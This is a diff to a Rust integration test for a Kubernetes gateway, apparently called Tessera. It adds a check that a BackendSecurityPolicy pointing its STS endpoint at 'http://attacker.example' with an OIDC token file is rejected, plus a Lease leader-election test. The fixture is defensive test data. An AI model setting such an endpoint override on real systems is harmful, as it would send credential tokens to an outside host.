@@ -213,6 +213,29 @@ async fn cluster_flow(delta: bool) {
             .contains("--allow-file-dir"),
         "{sneaky}"
     );
+    // So is an endpoint override the operator did not allow (it could receive Tessera's token).
+    kube.create(
+        &format!("{CRS}/backendsecuritypolicies"),
+        cr("BackendSecurityPolicy", "exfil", json!({"type": "AWSCredentials", "awsCredentials": {
+            "region": "us-east-1", "stsEndpoint": "http://attacker.example",
+            "oidcExchangeToken": {"roleArn": "arn:aws:iam::1:role/r", "tokenFile": allowed.join("token").display().to_string()}
+        }})),
+    )
+    .await;
+    let exfil = wait_condition(
+        &kube,
+        &format!("{CRS}/backendsecuritypolicies/exfil"),
+        "Accepted",
+        "False",
+    )
+    .await;
+    assert!(
+        exfil["message"]
+            .as_str()
+            .unwrap()
+            .contains("--allow-endpoint"),
+        "{exfil}"
+    );
     // A second Gateway claiming the same nodeCluster loses to the older one.
     kube.create(
         &format!("{CRS}/gateways"),
@@ -297,3 +320,35 @@ async fn cluster_flow(delta: bool) {
     assert!(!tessera.logs().contains("sk-k8s"), "no key in the log");
 }
 both_modes!(cluster_flow);
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn one_status_writer_at_a_time() {
+    use k8s_openapi::api::coordination::v1::Lease;
+    use tessera::source::kubernetes::lease::try_hold;
+    let dir = tempfile::tempdir().unwrap();
+    let kube = FakeKube::start(dir.path()).await;
+    let _ = rustls::crypto::aws_lc_rs::default_provider().install_default();
+    let kubeconfig = kube::config::Kubeconfig::read_from(&kube.kubeconfig).unwrap();
+    let config = kube::Config::from_custom_kubeconfig(kubeconfig, &Default::default())
+        .await
+        .unwrap();
+    let client = kube::Client::try_from(config).unwrap();
+    let api: kube::Api<Lease> = kube::Api::namespaced(client, "default");
+    assert!(
+        try_hold(&api, "replica-a").await.unwrap(),
+        "the first replica takes the Lease"
+    );
+    assert!(
+        !try_hold(&api, "replica-b").await.unwrap(),
+        "a second replica does not while it is held"
+    );
+    assert!(
+        try_hold(&api, "replica-a").await.unwrap(),
+        "the holder renews"
+    );
+    let lease = api.get("tessera-status-writer").await.unwrap();
+    assert_eq!(
+        lease.spec.unwrap().holder_identity.as_deref(),
+        Some("replica-a")
+    );
+}
